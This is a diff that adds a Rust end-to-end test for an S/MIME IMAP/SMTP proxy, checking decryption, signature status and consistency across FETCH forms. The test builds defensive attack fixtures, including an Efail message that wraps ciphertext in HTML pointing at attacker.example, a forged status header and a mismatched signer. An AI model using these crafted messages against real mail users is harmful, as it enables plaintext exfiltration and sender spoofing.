@@ -1,0 +1,393 @@
+//! End to end on the reading side: a real Dovecot (IMAPS and STARTTLS), messages made by
+//! envelopd's own SMTP path (through real Postfix), by `openssl cms` (AES-GCM) and by `gpgsm`
+//! (BER), plus attacks (a forged status header, an encrypted part wrapped in attacker HTML, a
+//! signer who is not the sender), all read through `envelopd run`'s IMAP side with Python's
+//! imaplib. Every FETCH form must describe the same shown message, and its BODYSTRUCTURE must
+//! equal what Dovecot itself says about those bytes.
+
+mod common;
+
+use std::collections::HashMap;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+use common::lab::{ok, Lab};
+use common::provider::Provider;
+use testkit::procs::{free_port, wait_for, Proc};
+
+const ENVELOPD: &str = env!("CARGO_BIN_EXE_envelopd");
+const SECRET: &str = "Befund Herr Muster: unauffaellig.";
+
+fn b64d(s: &serde_json::Value) -> Vec<u8> {
+    smime::mime::base64_decode(s.as_str().unwrap().as_bytes()).unwrap()
+}
+
+/// envelopd for one practice: its key(s), the RFC 9216 CA, IMAP and SMTP in front of `provider`.
+fn envelopd(
+    provider: &Provider,
+    who: &str,
+    imap_tls: &str,
+    imap_port: u16,
+) -> (tempfile::TempDir, u16, u16, Proc) {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    for sub in ["trust", "certs", "keys"] {
+        std::fs::create_dir(d.join(sub)).unwrap();
+    }
+    let v = common::rfc9216();
+    std::fs::copy(v.join("ca.rsa.crt"), d.join("trust/ca.pem")).unwrap();
+    std::fs::copy(v.join("bob.encrypt.crt"), d.join("certs/bob.pem")).unwrap();
+    std::fs::copy(v.join(format!("{who}.p12")), d.join("keys/id.p12")).unwrap();
+    std::fs::write(d.join("keys/pw"), format!("{who}\n")).unwrap();
+    for f in ["keys/id.p12", "keys/pw"] {
+        std::fs::set_permissions(d.join(f), std::fs::Permissions::from_mode(0o600)).unwrap();
+    }
+    let (smtp, imap) = (free_port(), free_port());
+    std::fs::write(
+        d.join("proxy.toml"),
+        format!(
+            "[smtp]\nlisten = \"127.0.0.1:{smtp}\"\n[imap]\nlisten = \"127.0.0.1:{imap}\"\n\
+             [upstream.smtp]\nhost = \"localhost\"\nport = {}\ntls = \"starttls\"\nca_file = \"{ca}\"\nsystem_roots = false\n\
+             [upstream.imap]\nhost = \"localhost\"\nport = {imap_port}\ntls = \"{imap_tls}\"\nca_file = \"{ca}\"\nsystem_roots = false\n\
+             [certificates]\nanchors = [\"trust\"]\nrecipients = \"certs\"\n\
+             [[identity]]\naddresses = [\"{who}@smime.example\"]\npkcs12 = \"keys/id.p12\"\npassword_file = \"keys/pw\"\n",
+            provider.submission,
+            ca = provider.ca().display()
+        ),
+    )
+    .unwrap();
+    let p = Proc(
+        Command::new(ENVELOPD)
+            .args(["run", "--config"])
+            .arg(d.join("proxy.toml"))
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(d.join("envelopd.log")).unwrap())
+            .spawn()
+            .unwrap(),
+    );
+    wait_for(smtp);
+    wait_for(imap);
+    (dir, smtp, imap, p)
+}
+
+fn mail(from: &str, subject: &str, body: &str) -> Vec<u8> {
+    format!(
+        "From: {from}\r\nTo: Bob <bob@smime.example>\r\nSubject: {subject}\r\nMessage-ID: <{subject}@test>\r\nDate: Wed, 25 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
+    )
+    .into_bytes()
+    .into_iter()
+    .chain(format!("Content-Type: text/plain; charset=us-ascii\r\n\r\n{body}\r\n").into_bytes())
+    .collect()
+}
+
+fn openssl(args: &[&str], input: &[u8]) -> Vec<u8> {
+    testkit::openssl_pipe(args, input).unwrap_or_else(|e| panic!("openssl {args:?}: {e}"))
+}
+
+/// The messages Bob's mailbox receives besides the one sent through envelopd.
+fn deliver_test_messages(provider: &Provider, lab: &Lab) {
+    let v = common::rfc9216();
+    let p = |n: &str| v.join(n).display().to_string();
+    // openssl: signed by Alice, then AES-256-GCM AuthEnvelopedData to Bob.
+    let signed = openssl(
+        &[
+            "cms",
+            "-sign",
+            "-signer",
+            &p("alice.sign.crt"),
+            "-inkey",
+            &p("alice.sign.key"),
+        ],
+        &mail("Alice <alice@smime.example>", "openssl-gcm", SECRET),
+    );
+    let enc = openssl(
+        &[
+            "cms",
+            "-encrypt",
+            "-aes-256-gcm",
+            "-from",
+            "Alice <alice@smime.example>",
+            "-to",
+            "Bob <bob@smime.example>",
+            "-subject",
+            "openssl-gcm",
+            &p("bob.encrypt.crt"),
+        ],
+        &signed,
+    );
+    provider.deliver("bob", "1.openssl", &enc);
+
+    // gpgsm: BER with indefinite lengths, AES-256-CBC to Bob, wrapped by hand (gpgsm does no MIME).
+    let inner =
+        b"Content-Type: text/plain; charset=us-ascii\r\n\r\nBefund Herr Muster: unauffaellig.\r\n";
+    let f = lab.write("gpgsm-in.txt", inner);
+    let o = lab.gpgsm(
+        &[
+            "--encrypt",
+            "--cipher-algo",
+            "AES256",
+            "-r",
+            "bob@smime.example",
+            "--output",
+            "-",
+            &f,
+        ],
+        None,
+    );
+    let der = ok(&o, "gpgsm --encrypt").unwrap();
+    let mut m = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: gpgsm-ber\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
+    m.extend_from_slice(&smime::mime::base64_lines(&der));
+    provider.deliver("bob", "2.gpgsm", &m);
+
+    // A plain message with a forged status header.
+    let mut forged =
+        b"X-Envelopd: decrypted=aes-256-gcm; signature=valid; signer=alice@smime.example\r\n"
+            .to_vec();
+    forged.extend_from_slice(&mail(
+        "Alice <alice@smime.example>",
+        "forged-status",
+        "Please wire the money.",
+    ));
+    provider.deliver("bob", "3.forged", &forged);
+
+    // Efail direct exfiltration: an encrypted part between attacker HTML parts.
+    let part = openssl(
+        &["cms", "-encrypt", "-aes256", &p("bob.encrypt.crt")],
+        format!("Content-Type: text/plain\r\n\r\n{SECRET}\r\n").as_bytes(),
+    );
+    let part = smime::mime::split(&part);
+    let mut efail = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: efail\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BOUNDARY\"\r\n\r\n--BOUNDARY\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--BOUNDARY\r\n".to_vec();
+    efail.extend_from_slice(part.header);
+    efail.extend_from_slice(b"\r\n");
+    efail.extend_from_slice(part.body);
+    efail.extend_from_slice(
+        b"\r\n--BOUNDARY\r\nContent-Type: text/html\r\n\r\n\">\r\n--BOUNDARY--\r\n",
+    );
+    provider.deliver("bob", "4.efail", &efail);
+
+    // Signed by Alice, but From: Carol.
+    let spoof = openssl(
+        &[
+            "cms",
+            "-sign",
+            "-signer",
+            &p("alice.sign.crt"),
+            "-inkey",
+            &p("alice.sign.key"),
+        ],
+        &mail(
+            "Carol <carol@smime.example>",
+            "from-mismatch",
+            "I am Carol, honestly.",
+        ),
+    );
+    provider.deliver("bob", "5.spoof", &spoof);
+
+    // Encrypted only to Alice: Bob's envelopd cannot open it.
+    let not_for_bob = openssl(
+        &[
+            "cms",
+            "-encrypt",
+            "-aes256",
+            "-from",
+            "alice@smime.example",
+            "-to",
+            "bob@smime.example",
+            "-subject",
+            "not-for-bob",
+            &p("alice.encrypt.crt"),
+        ],
+        format!("Content-Type: text/plain\r\n\r\n{SECRET}\r\n").as_bytes(),
+    );
+    provider.deliver("bob", "6.notforbob", &not_for_bob);
+
+    // Plain mail stays exactly as stored.
+    provider.deliver(
+        "bob",
+        "7.plain",
+        &mail("Carol <carol@smime.example>", "plain", "Hello Bob."),
+    );
+}
+
+fn subject_of(message: &[u8]) -> String {
+    let text = String::from_utf8_lossy(message);
+    text.lines()
+        .find_map(|l| l.strip_prefix("Subject: ").map(str::to_string))
+        .unwrap_or_default()
+}
+
+fn status_of(message: &[u8]) -> Option<String> {
+    let e = smime::mime::split(message);
+    let text = String::from_utf8_lossy(e.header);
+    text.lines()
+        .find_map(|l| l.strip_prefix("X-Envelopd: ").map(str::to_string))
+}
+
+/// IMAP BODYSTRUCTURE text with case and insignificant spacing normalised.
+fn norm(s: &str) -> String {
+    s.to_ascii_lowercase()
+}
+
+fn read_through(imap_port: u16, provider: &Provider) -> serde_json::Value {
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/clients/imap_read.py");
+    let o = Command::new("python3")
+        .arg(script)
+        .args([&imap_port.to_string(), "bob@smime.example", "bob-pw"])
+        .arg(provider.imaps.to_string())
+        .arg(provider.ca())
+        .output()
+        .unwrap();
+    assert!(
+        o.status.success(),
+        "imap_read.py: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    serde_json::from_slice(&o.stdout).unwrap()
+}
+
+#[test]
+fn encrypted_mail_reads_as_plain_with_a_trustworthy_status_in_every_fetch_form() {
+    let provider = Provider::start();
+    let lab = Lab::new();
+    // Alice's practice sends through envelopd (signed + encrypted to Bob) via real Postfix.
+    let (_alice_dir, alice_smtp, _alice_imap, _alice) =
+        envelopd(&provider, "alice", "implicit", provider.imaps);
+    let o = Command::new("swaks")
+        .args([
+            "--server",
+            &format!("127.0.0.1:{alice_smtp}"),
+            "--auth",
+            "PLAIN",
+        ])
+        .args([
+            "--auth-user",
+            "alice@smime.example",
+            "--auth-password",
+            "alice-pw",
+        ])
+        .args(["--from", "alice@smime.example", "--to", "bob@smime.example"])
+        .args([
+            "--header",
+            "Subject: smtp-path",
+            "--header",
+            "From: Alice <alice@smime.example>",
+        ])
+        .args(["--body", SECRET])
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
+    assert_eq!(provider.wait_messages("bob", 1).len(), 1);
+    deliver_test_messages(&provider, &lab);
+
+    for (mode, port) in [("implicit", provider.imaps), ("starttls", provider.imap)] {
+        let (bob_dir, _bob_smtp, bob_imap, _bob) = envelopd(&provider, "bob", mode, port);
+        let seen = read_through(bob_imap, &provider);
+        let log = std::fs::read_to_string(bob_dir.path().join("envelopd.log")).unwrap();
+        let caps: Vec<String> = seen["capabilities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|c| c.as_str().unwrap().to_ascii_uppercase())
+            .collect();
+        for hidden in ["BINARY", "CATENATE", "URL-PARTIAL", "COMPRESS=DEFLATE"] {
+            assert!(
+                !caps.iter().any(|c| c == hidden),
+                "{mode}: {hidden} must be hidden: {caps:?}"
+            );
+        }
+        let mut by_subject = HashMap::new();
+        for m in seen["messages"].as_array().unwrap() {
+            let body = b64d(&m["body"]);
+            let subject = subject_of(&body);
+            // Every FETCH form describes the same bytes.
+            assert_eq!(
+                m["size"].as_u64().unwrap() as usize,
+                body.len(),
+                "{mode} {subject}: RFC822.SIZE"
+            );
+            assert_eq!(
+                b64d(&m["rfc822"]),
+                body,
+                "{mode} {subject}: RFC822 by sequence number"
+            );
+            let (header, text) = (b64d(&m["header"]), b64d(&m["text"]));
+            assert_eq!(
+                [header.clone(), text.clone()].concat(),
+                body,
+                "{mode} {subject}: HEADER + TEXT"
+            );
+            assert_eq!(
+                b64d(&m["partial"]),
+                body[7..47.min(body.len())],
+                "{mode} {subject}: <7.40>"
+            );
+            assert_eq!(m["dovecot_size"].as_u64().unwrap() as usize, body.len());
+            assert_eq!(
+                norm(m["bodystructure"].as_str().unwrap()),
+                norm(m["dovecot_bodystructure"].as_str().unwrap()),
+                "{mode} {subject}: BODYSTRUCTURE must equal Dovecot's for the same bytes"
+            );
+            by_subject.insert(subject, (body, b64d(&m["part1"])));
+        }
+        let status = |s: &str| {
+            let (body, _) = by_subject
+                .get(s)
+                .unwrap_or_else(|| panic!("{mode}: no message {s:?} in {:?}", by_subject.keys()));
+            status_of(body)
+        };
+        let body = |s: &str| String::from_utf8_lossy(&by_subject[s].0).to_string();
+
+        assert_eq!(
+            status("smtp-path").as_deref(),
+            Some("decrypted=aes-256-cbc; integrity=none; signature=valid; signer=alice@smime.example"),
+            "{mode}\n{log}"
+        );
+        assert!(body("smtp-path").contains(SECRET));
+        assert_eq!(
+            status("openssl-gcm").as_deref(),
+            Some("decrypted=aes-256-gcm; signature=valid; signer=alice@smime.example"),
+            "{mode}"
+        );
+        assert!(body("openssl-gcm").contains(SECRET));
+        assert_eq!(
+            status("gpgsm-ber").as_deref(),
+            Some("decrypted=aes-256-cbc; integrity=none; signature=none"),
+            "{mode}"
+        );
+        assert_eq!(
+            String::from_utf8_lossy(&by_subject["gpgsm-ber"].1),
+            format!("{SECRET}\r\n"),
+            "{mode}: BODY[1] of the decrypted gpgsm message"
+        );
+        // The forged header is gone; the real one says the truth.
+        assert_eq!(
+            status("forged-status").as_deref(),
+            Some("decrypted=no; signature=none")
+        );
+        assert_eq!(body("forged-status").matches("X-Envelopd:").count(), 1);
+        // The encrypted part inside attacker HTML is not opened, and no status is claimed.
+        assert_eq!(status("efail"), None, "{mode}");
+        assert!(!body("efail").contains(SECRET), "{mode}: Efail splice");
+        assert_eq!(
+            status("from-mismatch").as_deref(),
+            Some("decrypted=no; signature=from-mismatch; signer=alice@smime.example"),
+            "{mode}"
+        );
+        let failed = status("not-for-bob").unwrap();
+        assert!(failed.starts_with("decrypted=failed; reason="), "{failed}");
+        assert_eq!(status("plain"), None);
+        assert!(!log.contains(SECRET), "no message text in the log");
+    }
+    // The provider still holds only ciphertext.
+    let stored = provider.all_messages("bob");
+    assert_eq!(stored.len(), 8);
+    for m in &stored {
+        let text = String::from_utf8_lossy(m);
+        assert!(
+            !text.contains(SECRET),
+            "the server's copy is never changed: {text}"
+        );
+    }
+}
